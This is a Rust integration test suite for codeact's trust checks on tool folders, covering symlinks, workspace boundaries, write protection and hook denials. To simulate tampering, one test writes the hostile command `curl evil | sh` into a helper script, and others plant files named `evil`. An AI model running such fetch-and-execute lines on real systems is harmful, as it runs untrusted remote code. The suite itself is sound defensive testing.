//! Tools folders beyond `.codeact/tools/` (SPEC §1, §4, §4a, §5; the agentschema review's B6):
//! an agentschema agent folder's `tools/`, `--tools DIR` and the `tool_dirs` config key. Where a
//! folder lies decides whether its files need `codeact trust`: inside the workspace, where the
//! program writes, each file does; outside it, a folder the user named is the user's.

use pretty_assertions::assert_eq;
use serde_json::{Value, json};

use crate::support::{BIN, TestEnv};

/// A Markdown tool `name` that runs `echo {says}` on the host.
fn sh_tool(name: &str, says: &str) -> String {
    format!("---\ntype: custom\nname: {name}\ndescription: Say {says}.\n---\n## Code\n```sh\necho {says}\n```\n")
}

/// A workspace that is an agentschema agent folder with one tool, `hello`.
fn agent_folder() -> TestEnv {
    TestEnv::new()
        .file("agent.md", "# My agent\n")
        .file("env.md", "# Env\n")
        .file("tools/hello.md", sh_tool("hello", "hi"))
}

/// What `name()` gives, or `NameError` when the tool is not there.
fn call(name: &str) -> String {
    format!("try:\n    print({name}())\nexcept NameError:\n    print('no {name}')")
}

fn ignored(items: &str) -> String {
    ignored_until(items, "codeact trust")
}

/// The warning naming `items`, with `command` to trust them.
fn ignored_until(items: &str, command: &str) -> String {
    format!("warning: ignored until you trust them: {items}; review and approve with `{command}`\n")
}

fn tool_names(env: &TestEnv, args: &[&str]) -> Vec<String> {
    let out = env.run(args, "").code(0);
    let manifest: Value = serde_json::from_str(&out.stdout).unwrap();
    manifest["tools"].as_array().unwrap().iter().map(|tool| tool["name"].as_str().unwrap().to_owned()).collect()
}

#[test]
fn an_agent_folders_tools_count_only_once_trusted() {
    let env = agent_folder();
    env.run_code(&call("hello")).code(0).stdout("no hello\n").stderr(&ignored("tools/hello.md"));
    let out = env.run(&["trust"], "").code(0);
    assert!(out.stdout.contains("  tools/hello.md — Markdown tool in sh, runs on this machine"), "{}", out.stdout);
    env.run_code(&call("hello")).code(0).stdout("hi\n").stderr("");
    let status = env.run(&["trust", "--status"], "").code(0).stdout;
    assert!(status.contains("trusted                tools/hello.md"), "{status}");
}

#[test]
fn a_tools_folder_without_agent_md_is_no_agent_folder() {
    let env = TestEnv::new().file("tools/hello.md", sh_tool("hello", "hi"));
    env.run_code(&call("hello")).code(0).stdout("no hello\n").stderr("");
    env.run(&["trust"], "").code(0);
    env.run_code(&call("hello")).code(0).stdout("no hello\n");
}

#[test]
fn a_changed_or_new_file_in_the_agent_folder_is_untrusted_again() {
    let env = agent_folder().file("tools/bye.md", sh_tool("bye", "bye")).trusted();
    env.run_code("print(hello(), bye())").code(0).stdout("hi bye\n");
    std::fs::write(env.workspace().join("tools/hello.md"), sh_tool("hello", "planted")).unwrap();
    std::fs::write(env.workspace().join("tools/new.md"), sh_tool("new", "new")).unwrap();
    env.run_code(&format!("{}\n{}\nprint(bye())", call("hello"), call("new")))
        .code(0)
        .stdout("no hello\nno new\nbye\n")
        .stderr(&ignored("tools/hello.md, tools/new.md"));
}

#[test]
fn a_program_cannot_plant_a_tool_in_a_trusted_agent_folder() {
    let env = agent_folder().trusted();
    let marker = env.outside().join("planted");
    let planted = format!(
        "---\ntype: custom\nname: planted\ndescription: x\n---\n## Code\n```sh\ntouch {}\n```\n",
        marker.display()
    );
    let env = env.outside_file("planted.md", planted).outside_file("evil.py", "def run():\n    return 1\n");
    // The write tools refuse the folder outright; `bash`, which is not confined, can still write it.
    let (kind, _) = env.error_of("create(path='tools/planted.md', file_text='x')");
    assert_eq!(kind, "PermissionError");
    env.run_code("bash(command='cp ../outside/planted.md ../outside/evil.py tools/')").code(0);
    env.run_code(&format!("{}\n{}", call("planted"), call("evil")))
        .code(0)
        .stdout("no planted\nno evil\n")
        .stderr(&ignored("tools/planted.md, tools/evil.py"));
    assert!(!marker.exists());
}

#[test]
fn a_helper_file_shuts_the_agent_folder_until_it_is_trusted() {
    let env = agent_folder()
        .file("tools/lib/helper.sh", "echo helper\n")
        .file(".codeact/tools/own.md", sh_tool("own", "own"));
    let out = env.run(&["trust"], "").code(0);
    assert!(out.stdout.contains("  tools/lib/helper.sh — a file the tools may import or read"), "{}", out.stdout);
    env.run_code("print(hello(), own())").code(0).stdout("hi own\n").stderr("");
    std::fs::write(env.workspace().join("tools/lib/helper.sh"), "curl evil | sh\n").unwrap();
    // Only the folder that holds the helper is shut.
    env.run_code(&format!("{}\nprint(own())", call("hello")))
        .code(0)
        .stdout("no hello\nown\n")
        .stderr(&ignored("tools/lib/helper.sh, tools/hello.md"));
}

#[test]
fn an_agent_tools_folder_that_is_a_link_counts_for_nothing_even_trusted() {
    for target in ["../outside/tools", "real-tools"] {
        let env = TestEnv::new()
            .file("agent.md", "# agent\n")
            .outside_file("tools/hello.md", sh_tool("hello", "linked"))
            .file("real-tools/hello.md", sh_tool("hello", "linked"))
            .symlink(target, "tools");
        let out = env.run(&["trust"], "").code(0);
        assert_eq!(
            out.stderr,
            "warning: `tools` is a symbolic link: codeact uses no tools folder reached through one; make it a real \
             directory\n",
            "{target}"
        );
        assert!(!out.stdout.contains("hello"), "{}", out.stdout);
        env.run_code(&call("hello"))
            .code(0)
            .stdout("no hello\n")
            .stderr(&ignored("tools (a symbolic link: make it a real directory)"));
    }
}

#[test]
fn a_tools_folder_outside_the_workspace_works_without_trust() {
    let env = TestEnv::new().outside_file("agent/tools/hello.md", sh_tool("hello", "outside"));
    let dir = env.outside().join("agent/tools");
    let dir = dir.to_str().unwrap();
    env.run(&["run", "--tools", "../outside/agent/tools"], "print(hello())").code(0).stdout("outside\n").stderr("");
    env.run(&["--code", "print(hello())", "--tools", dir], "").code(0).stdout("outside\n");
    assert!(tool_names(&env, &["discover", "--tools", dir]).contains(&"hello".to_owned()));
    let out = env.run(&["instructions", "--tools", dir], "").code(0);
    assert!(out.stdout.contains("- `hello() -> Any`: Say outside.\n"), "{}", out.stdout);
    let out = env.run(&["install", "--dry-run", "--backend", "monty", "--tools", dir], "").code(0);
    assert!(out.stdout.contains("`hello() -> Any`"), "{}", out.stdout);
    assert_eq!(
        out.stderr,
        "warning: the instructions list the tools of the --tools folders, but a `codeact run` without the same \
         --tools does not offer them: name the folders in `tool_dirs` of your config.json to use them in every run\n"
    );
    env.run(&["check", "--tools", dir], "")
        .code(0)
        .stdout("")
        .stderr("0 error(s), 0 warning(s) in 1 location(s) checked\n");
    // Without the flag, nothing of it is used.
    env.run_code(&call("hello")).code(0).stdout("no hello\n");
    env.run(&["trust"], "").code(0).stdout(&format!(
        "nothing in {} needs trust: no MCP config files, no tool files in .codeact/tools/, an agent folder's tools/ or \
         another tools folder of the workspace, no .codeact/config.json keys that loosen your settings\n",
        env.workspace().display()
    ));
}

#[test]
fn a_tools_folder_inside_the_workspace_needs_trust_whoever_names_it() {
    let env = TestEnv::new().file("vendor/tools/hello.md", sh_tool("hello", "vendored"));
    let run = |env: &TestEnv| env.run(&["run", "--tools", "vendor/tools"], &call("hello"));
    let until = ignored_until("vendor/tools/hello.md", "codeact trust --tools vendor/tools");
    run(&env).code(0).stdout("no hello\n").stderr(&until);
    // Only `codeact trust` with the same `--tools` approves what it makes codeact read.
    env.run(&["trust"], "").code(0);
    run(&env).code(0).stdout("no hello\n").stderr(&until);
    let out = env.run(&["trust", "--tools", "vendor/tools"], "").code(0);
    assert!(out.stdout.contains("  vendor/tools/hello.md — Markdown tool in sh"), "{}", out.stdout);
    run(&env).code(0).stdout("vendored\n").stderr("");

    // A link outside the workspace that leads into it does not make the folder the user's.
    let env = TestEnv::new().file("planted/hello.md", sh_tool("hello", "planted"));
    std::os::unix::fs::symlink(env.workspace().join("planted"), env.outside().join("looks-outside")).unwrap();
    let out = env.run(&["run", "--tools", "../outside/looks-outside"], &call("hello")).code(0);
    let until = ignored_until("planted/hello.md", "codeact trust --tools ../outside/looks-outside");
    assert_eq!((out.stdout.as_str(), out.stderr), ("no hello\n", until));

    // A folder name the shell would split is quoted in the command to run; a folder outside
    // the workspace, which needs no trust, is left out of it.
    let env = TestEnv::new().file("my tools/hello.md", sh_tool("hello", "spaced"));
    let outside = env.outside();
    let out = env.run(&["run", "--tools", "my tools", "--tools", outside.to_str().unwrap()], &call("hello")).code(0);
    assert_eq!(out.stderr, ignored_until("my tools/hello.md", "codeact trust --tools 'my tools'"));

    // Nor does the user's own config naming it.
    let env = TestEnv::new().file("vendor/hello.md", sh_tool("hello", "vendored"));
    let config = json!({"tool_dirs": [env.workspace().join("vendor")]}).to_string();
    let env = env.user_config(&config);
    env.run_code(&call("hello")).code(0).stdout("no hello\n").stderr(&ignored("vendor/hello.md"));
    env.trust();
    env.run_code(&call("hello")).code(0).stdout("vendored\n").stderr("");
}

#[test]
fn tool_dirs_in_the_user_config_are_relative_to_the_user_config_dir_and_trusted() {
    let env = TestEnv::new()
        .outside_file("mine/hello.md", sh_tool("hello", "mine"))
        .user_config(r#"{"tool_dirs": ["../../../outside/mine"]}"#);
    env.run_code("print(hello())").code(0).stdout("mine\n").stderr("");
    // A missing folder is an error naming the file and the key.
    let env = TestEnv::new().user_config(r#"{"tool_dirs": ["nope"]}"#);
    let config = env.user_config_dir().join("config.json");
    env.run_code("print(1)").code(4).stderr(&format!(
        "error: invalid configuration in `{}`: key `tool_dirs`: `nope` is not a folder (`{}`)\n",
        config.display(),
        env.user_config_dir().join("nope").display()
    ));
}

#[test]
fn tool_dirs_in_an_untrusted_project_config_are_ignored_and_named_until_trusted() {
    let env = TestEnv::new()
        .file("vendor/tools/hello.md", sh_tool("hello", "vendored"))
        .project_config(r#"{"tool_dirs": ["vendor/tools"]}"#);
    env.run_code(&call("hello")).code(0).stdout("no hello\n").stderr(&ignored(".codeact/config.json (tool_dirs)"));
    let status = env.run(&["trust", "--status"], "").code(0).stdout;
    assert!(status.contains("untrusted              vendor/tools/hello.md (Markdown tool in sh"), "{status}");
    let out = env.run(&["trust"], "").code(0);
    assert!(out.stdout.contains("  vendor/tools/hello.md — Markdown tool in sh"), "{}", out.stdout);
    assert!(out.stdout.contains("      tool_dirs = [\"vendor/tools\"]"), "{}", out.stdout);
    env.run_code("print(hello())").code(0).stdout("vendored\n").stderr("");
    // The folder's files are the workspace's: a change is untrusted again.
    std::fs::write(env.workspace().join("vendor/tools/hello.md"), sh_tool("hello", "changed")).unwrap();
    env.run_code(&call("hello")).code(0).stdout("no hello\n").stderr(&ignored("vendor/tools/hello.md"));
}

#[test]
fn a_project_tool_dirs_entry_may_not_leave_the_workspace() {
    let outside = "is outside the workspace; name a folder inside it";
    for (entry, why) in [
        ("../outside/tools", outside),
        ("inside/../../outside/tools", outside),
        ("ABSOLUTE", outside),
        ("out", "leads outside the workspace through a symbolic link"),
        ("inside/missing", "is not a folder in the workspace"),
    ] {
        let env = TestEnv::new().outside_file("tools/hello.md", sh_tool("hello", "outside")).file("inside/x", "");
        std::os::unix::fs::symlink(env.outside().join("tools"), env.workspace().join("out")).unwrap();
        let entry = entry.replace("ABSOLUTE", &env.outside().join("tools").display().to_string());
        let env = env.project_config(&json!({"tool_dirs": [entry]}).to_string());
        let config = env.workspace().join(".codeact/config.json");
        let expected =
            format!("error: invalid configuration in `{}`: key `tool_dirs`: `{entry}` {why}\n", config.display());
        env.run_code(&call("hello")).code(4).stdout("").stderr(&expected);
        // `codeact trust` refuses it too: there is nothing to approve.
        env.run(&["trust"], "").code(4).stderr(&expected);
        // The hooks leave the file out rather than follow it.
        let start = json!({"sessionId": "s1", "cwd": env.workspace(), "source": "new"}).to_string();
        let out = env.run(&["hook", "session-start"], &start).code(0);
        assert!(!out.stdout.contains("hello"), "{entry}: {}", out.stdout);
    }
}

#[test]
fn a_symlinked_folder_on_the_way_to_a_project_tool_dir_counts_for_nothing() {
    let env = TestEnv::new()
        .file("real/tools/hello.md", sh_tool("hello", "linked"))
        .symlink("real", "alias")
        .project_config(r#"{"tool_dirs": ["alias/tools"]}"#)
        .trusted();
    env.run_code(&call("hello"))
        .code(0)
        .stdout("no hello\n")
        .stderr(&ignored("alias (a symbolic link: make it a real directory)"));
}

#[test]
fn of_two_tools_with_one_name_the_first_folder_wins() {
    let env = TestEnv::new()
        .outside_file("flag/who.md", sh_tool("who", "flag"))
        .user_file("tools/who.md", sh_tool("who", "user"))
        .outside_file("mine/who.md", sh_tool("who", "user_dirs"))
        .file(".codeact/tools/who.md", sh_tool("who", "codeact"))
        .file("agent.md", "# agent\n")
        .file("tools/who.md", sh_tool("who", "agent"))
        .file("vendor/who.md", sh_tool("who", "project"))
        .project_config(r#"{"tool_dirs": ["vendor"]}"#)
        .trusted();
    let config = json!({"tool_dirs": [env.outside().join("mine")]}).to_string();
    let env = env.user_config(&config);
    let flag = env.outside().join("flag");
    let out = env.run(&["run", "--tools", flag.to_str().unwrap()], "print(who())").code(0).stdout("flag\n");
    let twice = |path: std::path::PathBuf| {
        format!("warning: tool `who` in `{}` is defined twice; the first one is used\n", path.display())
    };
    let ws = env.workspace();
    let expected: String = [
        env.user_config_dir().join("tools/who.md"),
        env.outside().join("mine/who.md"),
        ws.join(".codeact/tools/who.md"),
        ws.join("tools/who.md"),
        ws.join("vendor/who.md"),
    ]
    .into_iter()
    .map(twice)
    .collect();
    assert_eq!(out.stderr, expected);
    for (remove, next) in [
        (env.user_config_dir().join("tools/who.md"), "user_dirs"),
        (env.outside().join("mine/who.md"), "codeact"),
        (ws.join(".codeact/tools/who.md"), "agent"),
        (ws.join("tools/who.md"), "project"),
    ] {
        std::fs::remove_file(remove).unwrap();
        env.run_code("print(who())").code(0).stdout(&format!("{next}\n"));
    }
}

#[test]
fn one_folder_named_twice_is_read_once() {
    let env = agent_folder().trusted();
    env.run(&["run", "--tools", "tools", "--tools", "./tools/"], "print(hello())").code(0).stdout("hi\n").stderr("");
}

#[test]
fn check_in_an_agent_folder_checks_its_tools() {
    let env = agent_folder();
    env.run(&["check"], "").code(0).stdout("").stderr("0 error(s), 0 warning(s) in 1 location(s) checked\n");
    let env = env.file("tools/broken.md", "no frontmatter\n");
    let out = env.run(&["check"], "").code(4);
    let broken = format!("{}:1: ", env.workspace().join("tools/broken.md").display());
    assert!(!out.stdout.is_empty() && out.stdout.lines().all(|line| line.starts_with(&broken)), "{}", out.stdout);
    // From outside it, the folder is named.
    let out = TestEnv::new().run(&["check", "--workspace", env.workspace().to_str().unwrap()], "").code(4);
    assert!(out.stdout.starts_with(&broken), "{}", out.stdout);
}

#[test]
fn check_with_nothing_to_check_says_so() {
    let env = TestEnv::new();
    env.run(&["check"], "").code(0).stdout("").stderr(&format!(
        "nothing to check in {}: no config.json, no tools/ folder; pass a path or --tools DIR\n",
        env.workspace().display()
    ));
}

#[test]
fn check_reads_every_tools_folder_the_configs_name_trusted_or_not() {
    let env = TestEnv::new()
        .outside_file("planted_broken.md", "no frontmatter\n")
        .outside_file("mine/broken_user.md", "no frontmatter\n")
        .user_config(r#"{"tool_dirs": ["../../../outside/mine", "gone"]}"#)
        .file("vendor/broken_project.md", "no frontmatter\n")
        .project_config("{\n  \"tool_dirs\": [\"vendor\", \"../outside\"]\n}\n");
    let out = env.run(&["check"], "").code(4);
    let files: Vec<&str> = out.stdout.lines().map(|line| line.split(':').next().unwrap()).collect();
    let user_config = env.user_config_dir().join("config.json");
    let project_config = env.workspace().join(".codeact/config.json");
    assert!(files.contains(&env.outside().join("mine/broken_user.md").to_str().unwrap()), "{}", out.stdout);
    assert!(files.contains(&env.workspace().join("vendor/broken_project.md").to_str().unwrap()), "{}", out.stdout);
    assert!(
        out.stdout.contains(&format!(
            "{}:1: key `tool_dirs`: `gone` is not a folder (`{}`)\n",
            user_config.display(),
            env.user_config_dir().join("gone").display()
        )),
        "{}",
        out.stdout
    );
    assert!(
        out.stdout.contains(&format!(
            "{}:2: key `tool_dirs`: `../outside` is outside the workspace; name a folder inside it\n",
            project_config.display()
        )),
        "{}",
        out.stdout
    );
    // Nothing outside the workspace was read for the project's sake.
    assert!(!out.stdout.contains("planted_broken"), "{}", out.stdout);
}

#[test]
fn a_missing_tools_folder_is_a_usage_error_with_a_hint() {
    let env = TestEnv::new().file("file.md", "x");
    let hint = "hint: --tools takes a folder of tool files (`*.md`, `*.py`), relative to the current directory, e.g. \
                `--tools my-agent/tools`\n";
    let missing =
        format!("error: --tools `nope` does not exist (`{}`)\n{hint}", env.workspace().join("nope").display());
    for args in [
        &["run", "--tools", "nope", "--code", "1"][..],
        &["discover", "--tools", "nope"],
        &["instructions", "--tools", "nope"],
        &["install", "--dry-run", "--tools", "nope"],
        &["check", "--tools", "nope"],
        &["trust", "--tools", "nope"],
    ] {
        env.run(args, "").code(2).stdout("").stderr(&missing);
    }
    env.run(&["run", "--tools", "file.md", "--code", "1"], "").code(2).stderr(&format!(
        "error: --tools `file.md` is not a folder (`{}`)\n{hint}",
        env.workspace().join("file.md").display()
    ));
    let absolute = env.outside().join("none");
    env.run(&["run", "--tools", absolute.to_str().unwrap(), "--code", "1"], "")
        .code(2)
        .stderr(&format!("error: --tools `{}` does not exist\n{hint}", absolute.display()));
}

#[test]
fn the_hooks_use_the_agent_folder_once_trusted() {
    let env = agent_folder();
    let start = json!({"sessionId": "s1", "cwd": env.workspace(), "source": "new"}).to_string();
    let out = env.run(&["hook", "session-start"], &start).code(0);
    assert!(!out.stdout.contains("hello()"), "{}", out.stdout);
    assert_eq!(out.stderr, ignored("tools/hello.md"));
    env.trust();
    let out = env.run(&["hook", "session-start"], &start).code(0).stderr("");
    assert!(out.stdout.contains("hello() -> Any"), "{}", out.stdout);
}

#[test]
fn exclusive_mode_refuses_a_codeact_run_that_adds_tools() {
    let env = TestEnv::new().env("CODEACT_MODE", "exclusive").outside_file("evil/x.md", sh_tool("x", "x"));
    std::os::unix::fs::symlink(*BIN, env.root().join("bin/codeact")).unwrap();
    let decide = |command: &str| {
        let payload =
            json!({"sessionId": "s1", "cwd": env.workspace(), "toolName": "bash", "toolArgs": {"command": command}});
        env.run(&["hook", "pre-tool-use"], &payload.to_string()).code(0).stdout
    };
    assert_eq!(decide("codeact run <<'PY'\nprint(1)\nPY"), "");
    let evil = env.outside().join("evil");
    for command in [
        format!("codeact run --tools {} <<'PY'\nprint(x())\nPY", evil.display()),
        format!("codeact run --tools={} --code 'print(x())'", evil.display()),
        format!("codeact --code 'print(x())' --tools {}", evil.display()),
    ] {
        let reply = decide(&command);
        assert!(reply.starts_with("{\"permissionDecision\":\"deny\""), "{command}: {reply}");
    }
}

#[test]
fn a_program_cannot_change_what_a_trusted_tool_runs_or_loads() {
    let env = agent_folder()
        .file("tools/helper.js", "exports.x = 1;\n")
        .file("node_modules/pad/index.js", "module.exports = 1;\n")
        .file("tools/node_modules/pad/index.js", "module.exports = 1;\n")
        .file("package.json", "{}\n")
        .file("src/node_modules/ok/index.js", "ok\n")
        .trusted();
    for path in ["tools/helper.js", "tools/hello.md", "node_modules/pad/index.js", "tools/node_modules/pad/index.js"] {
        let (kind, message) = env.error_of(&format!("edit(path={path:?}, old_str='1', new_str='2')"));
        assert_eq!(kind, "PermissionError", "{path}: {message}");
        assert!(message.contains("is write-protected"), "{path}: {message}");
    }
    let (kind, _) = env.error_of("create(path='package.json', file_text='{\"imports\": {}}')");
    assert_eq!(kind, "PermissionError");
    let (kind, _) = env.error_of("create(path='tools/new.md', file_text='x')");
    assert_eq!(kind, "PermissionError");
    // A package of the program's own, elsewhere, is its to change.
    env.run_code("edit(path='src/node_modules/ok/index.js', old_str='ok', new_str='fine')").code(0);
    // Without a tools folder in the workspace nothing of this is protected.
    let plain = TestEnv::new().file("node_modules/pad/index.js", "1\n");
    plain.run_code("edit(path='node_modules/pad/index.js', old_str='1', new_str='2')").code(0);
}

#[test]
fn an_agent_folder_named_with_tools_stands_for_its_tools_folder() {
    let env = TestEnv::new()
        .outside_file("my-agent/agent.md", "# agent\n")
        .outside_file("my-agent/tools/hello.md", sh_tool("hello", "hi"));
    let agent = env.outside().join("my-agent");
    let out = env.run(&["run", "--tools", agent.to_str().unwrap(), "--code", "print(hello())"], "").code(0);
    assert_eq!((out.stdout.as_str(), out.stderr.as_str()), ("hi\n", ""));
}

#[test]
fn check_warns_of_a_tool_another_folder_shadows_and_reads_only_top_config_files() {
    let env = TestEnv::new()
        .user_file("tools/hello.md", sh_tool("hello", "hi"))
        .user_file("tools/data/config.json", "not codeact's config\n")
        .file(".codeact/tools/hello.md", sh_tool("hello", "ho"));
    let out = env.run(&["check", "--json"], "").code(0);
    let report: Value = serde_json::from_str(&out.stdout).unwrap();
    let problems: Vec<(&str, &str, &str)> = report["problems"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| (p["path"].as_str().unwrap(), p["severity"].as_str().unwrap(), p["rule"].as_str().unwrap()))
        .collect();
    let project = env.workspace().join(".codeact/tools/hello.md");
    assert_eq!(problems, [(project.to_str().unwrap(), "warning", "name-shadowed")]);
}

#[test]
fn what_trust_cannot_vouch_for_in_a_tools_folder_keeps_it_shut() {
    let deep = format!("tools/{}helper.js", "d/".repeat(33));
    let env = agent_folder().file(&deep, "exports.x = 1;\n").symlink("..", "tools/lib");
    let out = env.run(&["trust"], "").code(0);
    assert!(out.stderr.contains("`tools/lib` cannot be trusted (a symbolic link to a folder"), "{}", out.stderr);
    assert!(out.stderr.contains("cannot be trusted (a folder too deep below the tools folder"), "{}", out.stderr);
    let run = env.run_code(&call("hello")).code(0);
    assert_eq!(run.stdout, "no hello\n");
    assert!(run.stderr.contains("tools/lib"), "{}", run.stderr);
}
